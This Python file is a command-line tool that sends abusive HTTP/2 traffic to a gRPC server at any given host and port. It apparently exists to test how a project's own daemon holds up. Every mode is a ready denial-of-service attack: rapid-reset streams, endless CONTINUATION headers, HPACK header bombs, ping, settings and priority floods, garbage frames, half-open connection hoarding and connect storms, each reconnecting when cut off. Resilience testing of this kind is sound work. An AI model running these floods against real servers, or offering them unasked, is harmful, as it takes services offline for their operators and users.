"""Clients that abuse HTTP/2 on purpose, each in its own way. They connect again when the daemon cuts them.

Run as a program: `hostile.py KIND HOST:PORT SECONDS`. Frames follow RFC 9113 and header fields (HPACK) follow RFC 7541.
"""

from __future__ import annotations

import contextlib
import os
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4

#: The approximate number of bytes in one piece to send.
CHUNK = 64 * 1024


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: bytes) -> bytes:
    """An HPACK field that does not enter the table. Name and value must be shorter than 127 bytes."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value


def call_headers(path: str) -> bytes:
    """The headers that open a gRPC call."""
    fields = [(":method", b"POST"), (":scheme", b"http"), (":path", path.encode()), (":authority", b"localhost")]
    fields += [("content-type", b"application/grpc"), ("te", b"trailers")]
    return b"".join(literal(name, value) for name, value in fields)


WATCH = call_headers("/grpc.health.v1.Health/Watch")
CHECK = call_headers("/grpc.health.v1.Health/Check")
START = PREFACE + frame(SETTINGS, 0, 0)


def streams() -> Iterator[int]:
    """The stream numbers that a client may use: all odd numbers."""
    return iter(range(1, 1 << 31, 2))


def repeated(piece: bytes) -> Iterator[bytes]:
    """The same piece again and again, in chunks."""
    chunk = piece * max(1, CHUNK // len(piece))
    while True:
        yield chunk


def chunked(pieces: Iterator[bytes]) -> Iterator[bytes]:
    """Chunks of 256 small pieces each."""
    while True:
        chunk = b"".join(next(pieces) for _ in range(256))
        yield chunk


def rapid_reset() -> Iterator[bytes]:
    """Opens a stream and resets it at once."""
    opened = (frame(HEADERS, END_HEADERS, n, WATCH) + frame(RESET, 0, n, struct.pack(">I", 8)) for n in streams())
    return chunked(opened)


def calls_that_fail() -> Iterator[bytes]:
    """Opens unary calls that end without a message, as quickly as it can, and ignores the answers."""
    return chunked(frame(HEADERS, END_HEADERS | END_STREAM, n, CHECK) for n in streams())


def pings() -> Iterator[bytes]:
    """Sends pings."""
    return repeated(frame(PING, 0, 0, bytes(8)))


def settings() -> Iterator[bytes]:
    """Changes a setting again and again."""
    return repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)))


def window_updates() -> Iterator[bytes]:
    """Widens a stream's window by one byte again and again."""
    yield frame(HEADERS, END_HEADERS, 1, WATCH)
    yield from repeated(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)))


def priorities() -> Iterator[bytes]:
    """Makes idle streams depend on one another."""
    return chunked(frame(PRIORITY, 0, n, struct.pack(">IB", 0, 15)) for n in streams())


def empty_data() -> Iterator[bytes]:
    """Sends data frames without data."""
    yield frame(HEADERS, END_HEADERS, 1, WATCH)
    yield from repeated(frame(DATA, 0, 1))


def _endless_header(piece: int) -> Iterator[bytes]:
    length = b"\x7f" + bytes([0x80 | (n & 0x7F) for n in (200_000_000, 200_000_000 >> 7, 200_000_000 >> 14)])
    yield frame(HEADERS, END_HEADERS, 1, WATCH)
    yield frame(HEADERS, 0, 3, b"\x00\x01a" + length + b"\x5f")
    yield from repeated(frame(CONTINUATION, 0, 3, b"a" * piece))


def continuations() -> Iterator[bytes]:
    """Sends one endless header, a value of 200 MB, while it has a call."""
    return _endless_header(16_000)


def small_continuations() -> Iterator[bytes]:
    """Sends one endless header in small pieces. For each piece gRPC copies all pieces before it."""
    return _endless_header(100)


def many_fields() -> Iterator[bytes]:
    """Sends endless headers, each piece a field of its own."""
    yield frame(HEADERS, 0, 1, CHECK)
    yield from repeated(frame(CONTINUATION, 0, 1, literal("a", b"b")))


def header_bombs() -> Iterator[bytes]:
    """Puts one long field in the HPACK table and refers to this field 16,000 times in each call."""
    name = b"x" * 100
    yield frame(
        HEADERS, END_HEADERS | END_STREAM, 1, CHECK + b"\x40" + bytes([100]) + name + b"\x7f\x81\x1e" + b"v" * 3968
    )
    many = b"\xbe" * 16_000
    opened = (frame(HEADERS, END_HEADERS | END_STREAM, n, CHECK + many) for n in range(3, 1 << 31, 2))
    while True:
        yield b"".join(next(opened) for _ in range(4))


def garbage() -> Iterator[bytes]:
    """Sends random bytes after the settings."""
    while True:
        yield os.urandom(CHUNK)


def noise() -> Iterator[bytes]:
    """Sends large frames of a type that does not exist."""
    return repeated(frame(0xBB, 0, 0, b"a" * 16_000))


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid-reset": rapid_reset,
    "calls-that-fail": calls_that_fail,
    "pings": pings,
    "settings": settings,
    "window-updates": window_updates,
    "priorities": priorities,
    "empty-data": empty_data,
    "continuations": continuations,
    "small-continuations": small_continuations,
    "many-fields": many_fields,
    "header-bombs": header_bombs,
    "garbage": garbage,
    "noise": noise,
}


def connect(address: tuple[str, int], *, timeout: float = 5) -> socket.socket | None:
    """A connection, or None when the daemon cannot be reached."""
    try:
        return socket.create_connection(address, timeout=timeout)
    except OSError:
        return None


def flood(address: tuple[str, int], kind: str, until: float) -> None:
    """Sends the pieces of `kind` and discards the answers until the time `until`, in seconds of the monotonic clock."""
    while time.monotonic() < until:
        connection = connect(address)
        if connection is None:
            continue
        with connection:
            connection.setblocking(False)
            try:
                _send_all(connection, FLOODS[kind](), until)
            except OSError:
                continue


def _send_all(connection: socket.socket, pieces: Iterator[bytes], until: float) -> None:
    waiting = START
    while time.monotonic() < until:
        if not waiting:
            waiting = next(pieces)
        try:
            waiting = waiting[connection.send(waiting) :]
        except BlockingIOError:
            time.sleep(0.0005)
        try:
            while answer := connection.recv(1 << 20):
                del answer
            return
        except BlockingIOError:
            pass


def half_open(address: tuple[str, int], until: float, count: int = 3000) -> None:
    """Holds connections on which it sends nothing, and replaces those that the daemon ends."""
    held: list[socket.socket] = []
    while time.monotonic() < until:
        held = [each for each in held if not _has_ended(each)]
        while len(held) < count and time.monotonic() < until:
            connection = connect(address, timeout=0.5)
            if connection is None:
                break
            connection.setblocking(False)
            held.append(connection)
        time.sleep(0.05)
    for each in held:
        each.close()


def _has_ended(connection: socket.socket) -> bool:
    try:
        while connection.recv(65_536):
            pass
    except BlockingIOError:
        return False
    except OSError:
        pass
    connection.close()
    return True


def connects(address: tuple[str, int], until: float, count: int = 10_000) -> None:
    """Connects `count` times, sends the HTTP/2 preface and leaves, and repeats this until the time `until`."""
    while time.monotonic() < until:
        for _ in range(count):
            if time.monotonic() >= until:
                return
            connection = connect(address, timeout=0.5)
            if connection is not None:
                with connection, contextlib.suppress(OSError):
                    connection.sendall(START)


KINDS = (*FLOODS, "half-open", "connects")


def attack(kind: str, host: str, port: int, seconds: float) -> None:
    """Abuses the daemon in one way for a number of seconds."""
    until = time.monotonic() + seconds
    if kind == "half-open":
        half_open((host, port), until)
    elif kind == "connects":
        connects((host, port), until)
    else:
        flood((host, port), kind, until)


if __name__ == "__main__":
    host, _, port = sys.argv[2].rpartition(":")
    attack(sys.argv[1], host, int(port), float(sys.argv[3]))
